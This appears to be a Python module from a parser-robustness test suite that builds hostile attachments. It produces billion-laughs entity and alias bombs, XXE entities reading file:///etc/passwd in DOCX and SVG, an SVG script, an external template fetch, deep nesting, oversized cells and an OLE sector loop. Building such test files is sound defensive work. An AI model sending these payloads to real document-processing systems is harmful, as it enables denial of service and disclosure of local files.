"""Office files, markup and mails whose parser is the target."""

from __future__ import annotations

import struct
from typing import Final

from bench.attachments.bombs.bomb import CARD, LINE, Bomb, bombs
from bench.attachments.documents.build import with_digits
from bench.attachments.documents.construction import patched, unzipped, zipped
from bench.attachments.documents.sheets import number_cell
from bench.attachments.documents.word import paragraph, written

_TEXT: Final = LINE.decode()
_DOCUMENT, _SHEET = "word/document.xml", "xl/worksheets/sheet1.xml"
_LAUGHS: Final = '<!ENTITY a0 "ha ha ha ha ha ha ha ha">' + "".join(
    f'<!ENTITY a{at} "' + f"&a{at - 1};" * 10 + '">' for at in range(1, 10)
)
_SOME: Final = with_digits(CARD)


def _docx(declared: str, used: str) -> bytes:
    parts = unzipped(paragraph(_SOME))
    text = parts[_DOCUMENT].decode()
    head, _, body = text.partition("?>")
    body = body.replace("The device", used, 1)
    return zipped(parts | {_DOCUMENT: f"{head}?><!DOCTYPE d [{declared}]>{body}".encode()})


def docx_laughs() -> bytes:
    """Entities of entities: ten thousand million laughs."""
    return _docx(_LAUGHS, "&a9;")


def docx_external() -> bytes:
    """An entity that is a file of the reader's machine."""
    return _docx('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


def docx_deep() -> bytes:
    """A hundred thousand elements in each other."""
    nested = "<w:smartTag>" * 100_000 + "</w:smartTag>" * 100_000
    return patched(paragraph(_SOME), {_DOCUMENT: ("</w:body>", f"<w:p>{nested}</w:p></w:body>")})


def docx_template() -> bytes:
    """Asks for a template from elsewhere."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    related = f'<Relationship Id="rIdT" Type="{relation}" Target="http://127.0.0.1:9/a.dotm" TargetMode="External"/>'
    return patched(
        paragraph(_SOME), {"word/_rels/document.xml.rels": ("</Relationships>", f"{related}</Relationships>")}
    )


def docx_large() -> bytes:
    """Two hundred megabytes of one letter."""
    long = f"<w:p><w:r><w:t>{'a' * 200_000_000}</w:t></w:r></w:p></w:body>"
    return patched(paragraph(_SOME), {_DOCUMENT: ("</w:body>", long)})


def docx_twice() -> bytes:
    """Two main parts of one name; readers differ on which counts."""
    clean = unzipped(written(lambda _: None))
    both = zipped({"xord/document.xml": unzipped(paragraph(_SOME))[_DOCUMENT], **clean})
    return both.replace(b"xord/document.xml", b"word/document.xml")


def xlsx_quadratic() -> bytes:
    """A long entity, used often."""
    entity = f'<!DOCTYPE d [<!ENTITY x "{"a" * 100_000}">]>'
    parts = unzipped(number_cell(_SOME))
    text = parts[_SHEET].decode().replace("Customer", "&x;" * 20_000)
    return zipped(parts | {_SHEET: entity + text})


def xlsx_merged() -> bytes:
    """A million merged cells."""
    cells = "".join(f'<mergeCell ref="A{at}:B{at}"/>' for at in range(1, 1_000_001))
    merged = f'</sheetData><mergeCells count="1000000">{cells}</mergeCells>'
    return patched(number_cell(_SOME), {_SHEET: ("</sheetData>", merged)})


def xlsx_far() -> bytes:
    """A cell in the last row and column."""
    row = '<row r="1048576"><c r="XFD1048576"><v>4012888888881881</v></c></row></sheetData>'
    return patched(number_cell(_SOME), {_SHEET: ("</sheetData>", row)})


def ods_repeated() -> bytes:
    """A row of sixteen thousand equal cells, a million times."""
    from bench.attachments.documents.open_document import ods_number

    return patched(
        ods_number(_SOME),
        {
            "content.xml": (
                "<table:table-row><table:table-cell",
                '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
                'table:number-columns-repeated="16384"',
            )
        },
    )


def xml_laughs() -> bytes:
    """Entities of entities."""
    return f'<?xml version="1.0"?><!DOCTYPE a [{_LAUGHS}]><a>&a9; {_TEXT}</a>'.encode()


def svg_external() -> bytes:
    """A drawing that reads a file and runs a script."""
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f"<script>alert(1)</script><text>&x; {_TEXT}</text>"
    return f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>'.encode()


def svg_uses() -> bytes:
    """Groups that use each other ten times, twelve levels down."""
    groups = f'<g id="g0"><text>{_TEXT}</text></g>'
    for at in range(1, 12):
        use = f'<use href="#g{at - 1}"/>'
        groups += f'<g id="g{at}">{use * 10}</g>'
    return f'<svg xmlns="http://www.w3.org/2000/svg">{groups}</svg>'.encode()


def html_deep() -> bytes:
    """Two hundred thousand boxes in each other."""
    return b"<!doctype html><html><body>" + b"<div>" * 200_000 + LINE


def rtf_deep() -> bytes:
    """Half a million groups in each other."""
    return b"{\\rtf1 " + b"{" * 500_000 + LINE + b"}" * 500_001


def rtf_binary() -> bytes:
    """A run of bytes that says it is longer than the file."""
    return b"{\\rtf1 {\\bin2147483647 " + LINE + b"}}"


def json_deep() -> bytes:
    """A million lists in each other."""
    return b"[" * 1_000_000 + LINE + b"]" * 1_000_000


def json_number() -> bytes:
    """A number of a million digits."""
    return b'{"a": ' + b"8027364519" * 100_000 + b', "card": "' + LINE + b'"}'


def yaml_laughs() -> bytes:
    """Aliases of aliases."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{at}: &a{at} [" + ", ".join([f"*a{at - 1}"] * 9) + "]" for at in range(1, 10)]
    return ("\n".join(lines) + f"\nnote: {_TEXT}\n").encode()


def csv_digits() -> bytes:
    """Nine megabytes of digits in one cell."""
    return b"card\n" + b"8027364519" * 900_000 + b"\n" + LINE


def mail_deep() -> bytes:
    """A thousand mails in each other."""
    head = b"MIME-Version: 1.0\nMessage-ID: <1@a.example>\nContent-Type: message/rfc822\n\n"
    return head * 1000 + b"Subject: a\nMIME-Version: 1.0\n\n" + LINE


def mail_parts() -> bytes:
    """Twenty thousand parts."""
    head = b'MIME-Version: 1.0\nMessage-ID: <1@a.example>\nContent-Type: multipart/mixed; boundary="b"\n\n'
    return head + b"--b\nContent-Type: text/plain\n\na\n" * 20_000 + b"--b\n\n" + LINE + b"\n--b--\n"


def mail_headers() -> bytes:
    """A hundred thousand headers."""
    many = b"".join(b"X-A%d: a\n" % at for at in range(100_000))
    return b"MIME-Version: 1.0\nMessage-ID: <1@a.example>\n" + many + b"\n" + LINE


def ole_cycle() -> bytes:
    """A compound file whose table of sectors leads back to itself."""
    head = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<5H6x4I", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0)
    )
    head += struct.pack("<5I", 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<4I", 0xFFFFFFFD, 2, 1, 3) + b"\xff" * 496
    name = "Root Entry".encode("utf-16-le")
    entry = name.ljust(64, b"\0") + struct.pack("<H2B3I", len(name) + 2, 5, 1, 1, 1, 1) + bytes(36)
    entry += struct.pack("<IQ", 1, 1 << 20)
    return head.ljust(512, b"\0") + table + (entry * 4) + LINE.ljust(512)


BOMBS: Final[tuple[Bomb, ...]] = bombs(
    "markup, mail",
    *((docx_laughs, "docx"), (docx_external, "docx"), (docx_deep, "docx"), (docx_template, "docx")),
    *((docx_large, "docx"), (docx_twice, "docx"), (xlsx_quadratic, "xlsx"), (xlsx_merged, "xlsx")),
    *(
        (xlsx_far, "xlsx"),
        (ods_repeated, "ods"),
        (xml_laughs, "xml"),
        (svg_external, "svg"),
        (svg_uses, "svg"),
    ),
    *(
        (html_deep, "html"),
        (rtf_deep, "rtf"),
        (rtf_binary, "rtf"),
        (json_deep, "json"),
        (json_number, "json"),
    ),
    *(
        (yaml_laughs, "yaml"),
        (csv_digits, "csv"),
        (mail_deep, "eml"),
        (mail_parts, "eml"),
        (mail_headers, "eml"),
    ),
    (ole_cycle, "msg"),
)
